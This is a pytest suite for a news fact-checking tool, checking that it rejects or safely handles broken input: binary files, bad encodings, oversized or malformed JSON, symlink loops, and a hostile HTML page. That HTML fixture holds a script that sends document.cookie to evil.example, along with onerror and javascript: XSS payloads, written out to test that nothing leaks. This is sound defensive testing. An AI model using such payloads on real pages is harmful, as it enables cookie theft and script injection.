"""Hostile and broken input (issue 7): every input gets a clear FactcheckError (CLI exit 2, one line) or is handled.

Each test names one input and the outcome it protects. CLI runs use the hashing embedder (``_fast_cli``) so the
suite stays quick; the real model is exercised in tests/test_offline.py and tests/test_threads.py.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import warnings
from pathlib import Path

import pytest

import factcheck
from factcheck import frontend, ingest
from factcheck.cli import main
from factcheck.embed import HashingEmbedder
from factcheck.errors import (
    DecodeError,
    DuplicateIdError,
    FactcheckError,
    InputTooLargeError,
    SchemaError,
    TooFewDocumentsError,
    UnreadableInputError,
)
from factcheck.language import guess_english
from factcheck.segment import MAX_SENTENCE_CHARS

ROOT = Path(__file__).resolve().parents[1]
STORY = ROOT / "fixtures" / "kim_putin_2023"
ARTICLE = (STORY / "000_57984d62d44e202a.txt").read_text(encoding="utf-8")
OTHER = (STORY / "001_eb954cc161481570.txt").read_text(encoding="utf-8")

LEAD = "North Korean leader Kim Jong Un met Russian President Vladimir Putin at the Vostochny cosmodrome on Wednesday."
# News paragraphs in languages the English models do not read (also the calibration set of factcheck.language).
FOREIGN = {
    "fr": "Le dirigeant nord-coréen Kim Jong-un a rencontré mercredi le président russe Vladimir Poutine au "
    "cosmodrome Vostotchny, dans l'Extrême-Orient russe. Les deux hommes ont discuté pendant plus de quatre heures "
    "de coopération militaire, selon le Kremlin, qui a démenti toute signature d'accord.",
    "de": "Der nordkoreanische Machthaber Kim Jong Un hat am Mittwoch den russischen Präsidenten Wladimir Putin auf "
    "dem Weltraumbahnhof Wostotschny im Fernen Osten Russlands getroffen. Was die beiden besprochen haben, ist "
    "unklar; der Kreml sagte, es sei auch um militärische Zusammenarbeit gegangen, und es werde kein Abkommen "
    "unterzeichnet.",
    "es": "El líder norcoreano Kim Jong-un se reunió el miércoles con el presidente ruso Vladimir Putin en el "
    "cosmódromo de Vostochni, en el Lejano Oriente ruso. Ambos conversaron durante más de cuatro horas sobre "
    "cooperación militar, según el Kremlin, que negó la firma de cualquier acuerdo.",
    "it": "Il leader nordcoreano Kim Jong-un ha incontrato mercoledì il presidente russo Vladimir Putin al "
    "cosmodromo di Vostochny, nell'Estremo Oriente russo. I due hanno parlato per più di quattro ore di "
    "cooperazione militare, secondo il Cremlino, che ha smentito la firma di qualsiasi accordo.",
    "nl": "De Noord-Koreaanse leider Kim Jong-un heeft woensdag de Russische president Vladimir Poetin ontmoet op de "
    "ruimtehaven Vostotsjny in het Russische Verre Oosten. De twee spraken meer dan vier uur over militaire "
    "samenwerking, aldus het Kremlin, dat ontkende dat er een akkoord was getekend.",
    "ru": "Лидер КНДР Ким Чен Ын в среду встретился с президентом России Владимиром Путиным на космодроме Восточный. "
    "Переговоры продолжались более четырёх часов, сообщили в Кремле, подписание соглашений не планировалось.",
}


@pytest.fixture
def fast_cli(monkeypatch):
    """CLI runs in-process with the hashing embedder; returns run(args) -> (exit code, stdout, stderr)."""
    import factcheck.embed

    monkeypatch.setattr(factcheck.embed, "get_embedder", lambda **kw: HashingEmbedder())

    def run(capsys, *args: str) -> tuple[int, str, str]:
        # --allow-empty: these runs test reading hostile input; with the hashing embedder many link no fact across
        # articles, which the CLI otherwise refuses with exit 2 (issue 12, tested in test_cli.py)
        code = main(["check", *args, "--format", "json", "--allow-empty"])
        out, err = capsys.readouterr()
        assert "Traceback" not in err and "Traceback" not in out
        assert code in (0, 2), err  # 3 would be an internal error: every input must be handled or refused
        if code == 2:
            assert len(err.strip().splitlines()) == 1 and err.startswith("factcheck: error: [E"), err
        return code, out, err

    return run


def _write(path: Path, data: bytes | str) -> Path:
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


# ------------------------------------------------------------------------------------ empty, binary, encodings


@pytest.mark.parametrize(
    ("name", "data", "error", "words"),
    [
        ("empty.txt", b"", UnreadableInputError, "empty"),
        ("whitespace.txt", b"  \n\t\r\n \xc2\xa0\n", UnreadableInputError, "empty"),
        ("doc.pdf.txt", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj", UnreadableInputError, "PDF"),
        ("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", UnreadableInputError, "PNG"),
        ("nul.txt", b"Kim met Putin.\x00\x00\x01\x02 more", UnreadableInputError, "NUL"),
        ("zip.json", b"PK\x03\x04\x14\x00\x00\x00", UnreadableInputError, "ZIP"),
        ("empty.json", b"", UnreadableInputError, "empty"),
        ("page.html", b"<html><head><script>var x = 1;</script></head><body></body></html>", UnreadableInputError,
         "no article text"),
        ("notes.md", LEAD.encode(), UnreadableInputError, "unsupported type"),
    ],
)
def test_hostile_empty_and_binary_files_refused(tmp_path, capsys, fast_cli, name, data, error, words):
    path = _write(tmp_path / name, data)
    with pytest.raises(error, match=words):
        factcheck.load(path)
    code, _, err = fast_cli(capsys, str(path), str(STORY / "001_eb954cc161481570.txt"))
    assert code == 2 and words in err


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"])
def test_hostile_unicode_with_bom_decoded(tmp_path, encoding):
    text = LEAD + " Ā ā 北京 Ωμέγα."  # "ā" is 01 01 in UTF-16: no NUL byte to give the encoding away
    bom = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}.get(encoding, b"")
    path = _write(tmp_path / "u.txt", bom + text.encode(encoding))
    assert factcheck.load(path)[0].text == text


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        # Latin-1 French: the detector alone reads it as cp1250 ("coűte")
        ("Le café coûte 3 euros à Paris, a dit M. Dupont.".encode("latin-1"),
         "Le café coûte 3 euros à Paris, a dit M. Dupont."),
        ("The café in Zürich said the naïve résumé was fine, according to Señor Núñez.".encode("latin-1"),
         "The café in Zürich said the naïve résumé was fine, according to Señor Núñez."),
        # Windows-1252 curly quotes, dashes and the euro sign
        ("He said “hello” – it cost €5 million, the company’s chief said… “We’re done.”".encode("cp1252"),
         "He said “hello” – it cost €5 million, the company’s chief said… “We’re done.”"),
        # invalid UTF-8: English with stray bytes and a broken two-byte sequence; every byte kept as a character
        (b"Kim met Putin on Tuesday \xff\xfe\xfd and the \xc3\x28 talks ended.",
         "Kim met Putin on Tuesday ÿþý and the Ã( talks ended."),
        # stray bytes up front that look like a UTF-16 byte-order mark but do not decode as UTF-16 text
        (b"\xff\xfe\xfd Kim met Putin on Tuesday.", "ÿþý Kim met Putin on Tuesday."),
    ],
)
def test_hostile_legacy_encodings_decoded_with_warning(tmp_path, data, expected):
    path = _write(tmp_path / "legacy.txt", data)
    with pytest.warns(factcheck.FactcheckWarning, match="not UTF-8; decoded as windows-1252"):
        doc = factcheck.load(path)[0]
    assert doc.text == expected


def test_hostile_cyrillic_cp1251_decoded_as_cyrillic(tmp_path):
    path = _write(tmp_path / "ru.txt", FOREIGN["ru"].encode("cp1251"))
    with pytest.warns(factcheck.FactcheckWarning, match="cp1251"):
        assert factcheck.load(path)[0].text == FOREIGN["ru"]


def test_hostile_undetectable_bytes_refused(tmp_path, monkeypatch):
    import charset_normalizer

    monkeypatch.setattr(charset_normalizer, "from_bytes", lambda data: type("R", (), {"best": lambda self: None})())
    with pytest.raises(DecodeError, match="re-save it as UTF-8"):
        factcheck.load(_write(tmp_path / "x.txt", b"\x81\x8d\x8f\x90\x9d" * 10))


def test_hostile_cli_legacy_encoding_runs_with_a_note(tmp_path, capsys, fast_cli):
    path = _write(tmp_path / "latin.txt", ARTICLE.replace("’", "'").replace("“", '"').replace("”", '"')
                  .replace("—", "-").replace("–", "-").replace("…", "...")
                  .encode("ascii", errors="replace") + "\n\nThe café owner in Zürich agreed.\n".encode("latin-1"))
    code, out, err = fast_cli(capsys, str(path), str(STORY / "001_eb954cc161481570.txt"))
    assert code == 0 and "decoded as windows-1252" in err
    assert "latin" in {d["id"] for d in json.loads(out)["documents"]}


def test_hostile_lone_surrogates_replaced_one_for_one():
    text = LEAD + " \ud800 Talks lasted four hours \udfff."
    with pytest.warns(factcheck.FactcheckWarning, match="lone surrogate"):
        report = factcheck.check([text, LEAD], embedder=HashingEmbedder())
    doc = report.documents[0]
    assert len(doc.text) == len(text) and "\ufffd" in doc.text
    json.loads(report.to_json())  # writable as UTF-8 JSON


# ------------------------------------------------------------------------------------ size


def test_hostile_20mb_file_refused_fast_by_size(tmp_path, capsys, fast_cli):
    path = tmp_path / "huge.txt"
    with open(path, "wb") as fh:
        fh.write((LEAD + " ").encode() * (20_000_000 // (len(LEAD) + 1) + 1))
    assert path.stat().st_size > 20_000_000
    t = time.perf_counter()
    with pytest.raises(InputTooLargeError, match="over the limit"):
        factcheck.load(path)
    assert time.perf_counter() - t < 1.0  # refused by its size, before reading
    code, _, err = fast_cli(capsys, str(path), str(STORY / "001_eb954cc161481570.txt"))
    assert code == 2 and "E106" in err and "MAX_CHARS" in err


def test_hostile_file_just_over_max_chars_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(ingest, "MAX_CHARS", 1_000)
    monkeypatch.setattr(ingest, "MAX_BYTES", 4_000)
    with pytest.raises(InputTooLargeError, match="1,001 characters"):
        factcheck.load(_write(tmp_path / "a.txt", "a" * 1_001))
    assert factcheck.load(_write(tmp_path / "b.txt", "é" * 1_000))[0].text == "é" * 1_000  # 2,000 bytes: fine


@pytest.mark.parametrize("wrap", [str, lambda t: {"id": "x", "text": t}, lambda t: factcheck.Document(id="x", text=t)])
def test_hostile_oversized_python_inputs_refused(monkeypatch, wrap):
    monkeypatch.setattr(ingest, "MAX_CHARS", 1_000)
    with pytest.raises(InputTooLargeError):
        factcheck.check([wrap("word " * 300), LEAD], embedder=HashingEmbedder())


def test_hostile_story_over_max_sentences_refused(monkeypatch):
    monkeypatch.setattr(frontend, "MAX_SENTENCES", 10)
    with pytest.raises(InputTooLargeError, match="MAX_SENTENCES"):
        factcheck.check([ARTICLE, OTHER], embedder=HashingEmbedder())


def test_hostile_100k_char_sentence_finishes_and_loses_nothing():
    import random

    rng = random.Random(7)
    words = ["kim", "putin", "met", "train", "city", "said", "leader", "talks", "Moscow", "on", "Tuesday", "3",
             "million", "the", "in", "Vladivostok"]
    sentence = " ".join(rng.choice(words) for _ in range(25_000))[:100_000]
    t = time.perf_counter()
    report = factcheck.check([sentence, LEAD], embedder=HashingEmbedder())
    elapsed = time.perf_counter() - t
    assert elapsed < 60, elapsed  # unbounded, it took ~170 s in spaCy and the slot readers
    doc_id = report.documents[0].id
    claims = [c for c in report.claims if c.doc_id == doc_id]
    assert len(claims) >= 100_000 // MAX_SENTENCE_CHARS
    assert all(len(c.text) <= MAX_SENTENCE_CHARS for c in claims)
    # nothing dropped: every word of the sentence is inside a claim
    covered = bytearray(len(sentence))
    for c in claims:
        covered[c.start : c.end] = b"\x01" * (c.end - c.start)
    assert all(covered[i] or sentence[i].isspace() for i in range(len(sentence)))
    assert any("cut at spaces" in w and doc_id in w for w in report.warnings)


def test_hostile_100k_char_token_without_spaces_is_cut_hard():
    report = factcheck.check(["x" * 100_000, LEAD], embedder=HashingEmbedder())
    pieces = [c for c in report.claims if c.doc_id == "doc1"]
    assert sum(len(c.text) for c in pieces) == 100_000


# ------------------------------------------------------------------------------------ JSON schema


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ({"title": "no text here"}, "no 'text' field"),
        ({"text": LEAD, "author": "extra field"}, "unknown field"),
        ({"text": 42}, "'text' must be a string"),
        ({"text": ["a", "list"]}, "'text' must be a string"),
        ({"text": None}, "'text' must be a string"),
        ({"text": "   "}, "'text' is empty"),
        ({"id": 7, "text": LEAD}, "'id' must be a non-empty string"),
        ({"id": "", "text": LEAD}, "'id' must be a non-empty string"),
        ({"text": LEAD, "published": "yesterday"}, "published"),
        ({"text": LEAD, "published": 20230913}, "published"),
        ({"text": LEAD, "outlet": {"name": "x"}}, "outlet"),
        ({"text": LEAD, "inferred": ["title"]}, "unknown field"),
        ([], "empty list"),
        ("just a string", "expected a JSON object"),
        (12, "expected a JSON object"),
        ([{"text": LEAD}, "not an object"], "item 2"),
    ],
)
def test_hostile_json_schema_errors(tmp_path, capsys, fast_cli, content, words):
    path = _write(tmp_path / "bad.json", json.dumps(content))
    with pytest.raises(SchemaError, match=words):
        factcheck.load(path)
    code, _, err = fast_cli(capsys, str(path), str(STORY / "001_eb954cc161481570.txt"))
    assert code == 2 and "E103" in err


@pytest.mark.parametrize(
    ("name", "raw", "words"),
    [
        ("broken.json", '{"text": "Kim met Putin.', "not valid JSON"),
        ("nested.json", "[" * 100_000 + "]" * 100_000, "nests JSON too deeply"),
        ("nested.jsonl", '{"text": ' + "[" * 100_000 + "]" * 100_000 + "}", "nests JSON too deeply"),
        ("badline.jsonl", json.dumps({"text": LEAD}) + "\n{oops\n", "line 2 is not valid JSON"),
        ("blank.jsonl", "\n\n  \n", "empty"),
        ("nan.json", '{"text": NaN}', "'text' must be a string"),
    ],
)
def test_hostile_malformed_json_refused(tmp_path, capsys, fast_cli, name, raw, words):
    path = _write(tmp_path / name, raw)
    with pytest.raises(FactcheckError, match=words):
        factcheck.load(path)
    code, _, _ = fast_cli(capsys, str(path), str(STORY / "001_eb954cc161481570.txt"))
    assert code == 2


def test_hostile_python_objects_of_wrong_type_refused():
    for bad in (42, None, b"bytes", ["a list"], object()):
        with pytest.raises(SchemaError):
            factcheck.check([LEAD, bad], embedder=HashingEmbedder())
    with pytest.raises(SchemaError, match="empty string"):
        factcheck.check([LEAD, ""], embedder=HashingEmbedder())


# ------------------------------------------------------------------------------------ ids and document counts


def test_hostile_duplicate_ids_refused(tmp_path, capsys, fast_cli):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    one = _write(tmp_path / "a" / "same.txt", LEAD)
    two = _write(tmp_path / "b" / "same.txt", OTHER)
    with pytest.raises(DuplicateIdError, match="same"):
        factcheck.load([one, two])
    code, _, err = fast_cli(capsys, str(one), str(two))
    assert code == 2 and "E104" in err
    with pytest.raises(DuplicateIdError):
        factcheck.check([{"id": "x", "text": LEAD}, {"id": "x", "text": OTHER}], embedder=HashingEmbedder())


def test_hostile_single_document_refused(tmp_path, capsys, fast_cli):
    with pytest.raises(TooFewDocumentsError, match="at least two"):
        factcheck.check([LEAD], embedder=HashingEmbedder())
    code, _, err = fast_cli(capsys, str(_write(tmp_path / "one.txt", LEAD)))
    assert code == 2 and "E105" in err


def test_hostile_500_tiny_documents(tmp_path, capsys, fast_cli):
    docs = [f"Official {i} said talks ended." if i % 2 else f"Kim met Putin {i} times." for i in range(500)]
    t = time.perf_counter()
    report = factcheck.check(docs, embedder=HashingEmbedder())
    assert time.perf_counter() - t < 60
    assert len(report.documents) == 500 and {c.doc_id for c in report.claims} == {d.id for d in report.documents}
    folder = tmp_path / "many"
    folder.mkdir()
    for i, text in enumerate(docs[:500]):
        _write(folder / f"{i:03d}.txt", text)
    code, out, _ = fast_cli(capsys, str(folder))
    assert code == 0 and len(json.loads(out)["documents"]) == 500


# ------------------------------------------------------------------------------------ language


@pytest.mark.parametrize("lang", sorted(FOREIGN))
def test_hostile_foreign_article_processed_with_warning_no_claims(lang):
    report = factcheck.check([{"id": "en", "text": ARTICLE}, {"id": lang, "text": FOREIGN[lang]}],
                             embedder=HashingEmbedder())
    assert [d.id for d in report.documents] == ["en", lang]
    assert not [c for c in report.claims if c.doc_id == lang]
    assert [c for c in report.claims if c.doc_id == "en"]
    (warning,) = [w for w in report.warnings if repr(lang) in w]
    assert "does not look like English" in warning


def test_hostile_english_fixtures_raise_no_language_warning(story_dir):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", factcheck.FactcheckWarning)
        docs = factcheck.load(story_dir)
    report = factcheck.check(docs, embedder=HashingEmbedder())
    assert not [w for w in report.warnings if "English" in w]


@pytest.mark.parametrize(
    ("text", "english"),
    [
        (ARTICLE, True),
        ("WASHINGTON, March 3 (Reuters) - The U.S. Senate on Friday passed a stopgap spending bill to keep federal "
         "agencies open, sending it to President Biden.", True),  # name-heavy wire lead
        ("Kim met Putin.", None),  # too short to tell
        *[(t, False) for t in FOREIGN.values()],
    ],
)
def test_language_guess_english(text, english):
    assert guess_english(text).english is english


# ------------------------------------------------------------------------------------ HTML: nothing runs, nothing leaks

HOSTILE_HTML = """<!doctype html><html><head><title>Kim meets Putin</title>
<style>body {{ background: url(javascript:alert('STYLELEAK')) }} .x::after {{ content: "STYLELEAK" }}</style>
<script>document.write("SCRIPTLEAK"); fetch("https://evil.example/?c=" + document.cookie);</script>
<script type="application/ld+json">{{"@type": "NewsArticle", "headline": "LDJSONLEAK"}}</script>
</head><body>
<iframe src="https://evil.example/frame" srcdoc="<p>IFRAMELEAK</p>"></iframe>
<noscript><p>NOSCRIPTLEAK please enable javascript</p></noscript>
<article><h1>Kim meets Putin</h1>
<p>{lead}</p>
<p>The two leaders talked for more than four hours, the Kremlin said on Wednesday evening.</p>
<p onclick="alert('HANDLERLEAK')">Putin accepted an invitation to visit North Korea, according to state media.</p>
<img src=x onerror="alert('IMGLEAK')">
<form action="https://evil.example/"><input value="FORMLEAK"></form>
</article></body></html>
"""


def test_hostile_html_scripts_iframes_styles_never_become_text(tmp_path, capsys, fast_cli):
    path = _write(tmp_path / "page.html", HOSTILE_HTML.format(lead=LEAD))
    doc = factcheck.load(path)[0]
    assert "four hours" in doc.text and "Vostochny" in doc.text
    for leak in ("SCRIPTLEAK", "STYLELEAK", "IFRAMELEAK", "NOSCRIPTLEAK", "HANDLERLEAK", "IMGLEAK", "FORMLEAK",
                 "LDJSONLEAK", "evil.example", "alert(", "document.cookie"):
        assert leak not in doc.text, leak
    code, out, _ = fast_cli(capsys, str(path), str(STORY / "001_eb954cc161481570.txt"))
    assert code == 0 and "SCRIPTLEAK" not in out and "evil.example" not in out


def test_hostile_markup_in_plain_text_is_escaped_in_html_report():
    text = LEAD + ' <script>alert("x")</script> <img src=x onerror=alert(1)> The talks lasted four hours.'
    report = factcheck.check([text, LEAD], embedder=HashingEmbedder())
    assert report.documents[0].text == text  # kept verbatim as data
    page = report.to_html()
    assert '<script>alert("x")</script>' not in page and "<img src=x onerror" not in page


def test_hostile_html_that_cannot_be_parsed_refused(tmp_path, monkeypatch):
    import trafilatura

    def boom(*a, **k):
        raise ValueError("parser exploded")

    monkeypatch.setattr(trafilatura, "extract", boom)
    with pytest.raises(UnreadableInputError, match="could not be parsed"):
        factcheck.load(_write(tmp_path / "p.html", HOSTILE_HTML.format(lead=LEAD)))


# ------------------------------------------------------------------------------------ the file system


def test_hostile_unreadable_file_refused(tmp_path, capsys, fast_cli, monkeypatch):
    path = _write(tmp_path / "secret.txt", LEAD)
    if os.geteuid() != 0:  # real permissions where they apply
        path.chmod(0)
        try:
            with pytest.raises(UnreadableInputError, match="permission denied"):
                factcheck.load(path)
        finally:
            path.chmod(0o644)
    import builtins

    real_open = builtins.open

    def no_read(file, mode="r", *a, **k):  # root reads anything: simulate chmod 000 where it does not apply
        if str(file) == str(path):
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, mode, *a, **k)

    monkeypatch.setattr(builtins, "open", no_read)
    with pytest.raises(UnreadableInputError, match="permission denied"):
        factcheck.load(path)
    code, _, err = fast_cli(capsys, str(path), str(STORY / "001_eb954cc161481570.txt"))
    assert code == 2 and "E101" in err


def test_hostile_unlistable_directory_refused(tmp_path, monkeypatch):
    folder = tmp_path / "locked"
    folder.mkdir()

    def no_list(self):
        raise PermissionError(13, "Permission denied", str(self))

    monkeypatch.setattr(Path, "iterdir", no_list)
    with pytest.raises(UnreadableInputError, match="cannot be listed"):
        factcheck.load(folder)


def test_hostile_symlink_loop_refused_directly_and_skipped_in_folder(tmp_path, capsys, fast_cli):
    folder = tmp_path / "story"
    folder.mkdir()
    loop = folder / "loop.txt"
    os.symlink(loop, loop)
    (folder / "a.txt").symlink_to(folder / "b.txt")
    (folder / "b.txt").symlink_to(folder / "a.txt")
    _write(folder / "good1.txt", LEAD)
    _write(folder / "good2.txt", OTHER)
    (folder / "dirloop").symlink_to(folder)
    with pytest.raises(UnreadableInputError, match="cannot be read|does not exist"):
        factcheck.load(loop)
    with pytest.warns(factcheck.FactcheckWarning, match="not read") as caught:
        docs = factcheck.load(folder)
    assert [d.id for d in docs] == ["good1", "good2"]
    skipped = str(caught[0].message)
    assert "loop.txt" in skipped and "a.txt" in skipped and "b.txt" in skipped  # reported, not silently skipped
    code, _, err = fast_cli(capsys, str(folder))
    assert code == 0 and "loop.txt" in err
    code, _, _ = fast_cli(capsys, str(loop), str(folder / "good1.txt"))
    assert code == 2


def test_hostile_fifo_and_device_refused_without_blocking(tmp_path):
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    with pytest.raises(UnreadableInputError, match="not a regular file"):
        factcheck.load(fifo)  # reading it would block forever
    if Path("/dev/zero").exists():
        with pytest.raises(UnreadableInputError, match="not a regular file|unsupported type"):
            factcheck.load("/dev/zero")


def test_hostile_paths_with_spaces_and_non_ascii_names(tmp_path, capsys, fast_cli):
    folder = tmp_path / "дело № 7 — story files"
    folder.mkdir()
    _write(folder / "Le Monde – édition du soir.txt", LEAD)
    _write(folder / "新华社 report.txt", OTHER)
    _write(folder / "with 'quotes' & $HOME.json", json.dumps({"text": ARTICLE}))
    docs = factcheck.load(folder)
    assert sorted(d.id for d in docs) == sorted(["Le Monde – édition du soir", "新华社 report", "with 'quotes' & $HOME"])
    code, out, _ = fast_cli(capsys, str(folder))
    assert code == 0 and "新华社 report" in {d["id"] for d in json.loads(out)["documents"]}


def test_hostile_missing_path_and_directory_as_file(tmp_path, capsys, fast_cli):
    with pytest.raises(UnreadableInputError, match="does not exist"):
        factcheck.load(tmp_path / "nope.txt")
    with pytest.raises(UnreadableInputError, match="holds no"):
        factcheck.load(tmp_path)
    code, _, _ = fast_cli(capsys, str(tmp_path / "nope.txt"), str(STORY / "001_eb954cc161481570.txt"))
    assert code == 2


# ------------------------------------------------------------------------------------ the installed command


def test_hostile_cli_process_prints_no_traceback(tmp_path):
    """As a user runs it: a real process, its stderr, its exit code, for inputs that fail early."""
    cases = {
        "binary": _write(tmp_path / "x.txt", b"\x00\x01\x02\x03" * 100),
        "schema": _write(tmp_path / "y.json", '{"txt": 1}'),
        "nested": _write(tmp_path / "z.json", "[" * 200_000),
    }
    for name, path in cases.items():
        proc = subprocess.run([sys.executable, "-m", "factcheck", "check", str(path), str(path)],
                              capture_output=True, text=True, timeout=60)
        assert proc.returncode == 2, (name, proc.stderr)
        assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1, (name, proc.stderr)
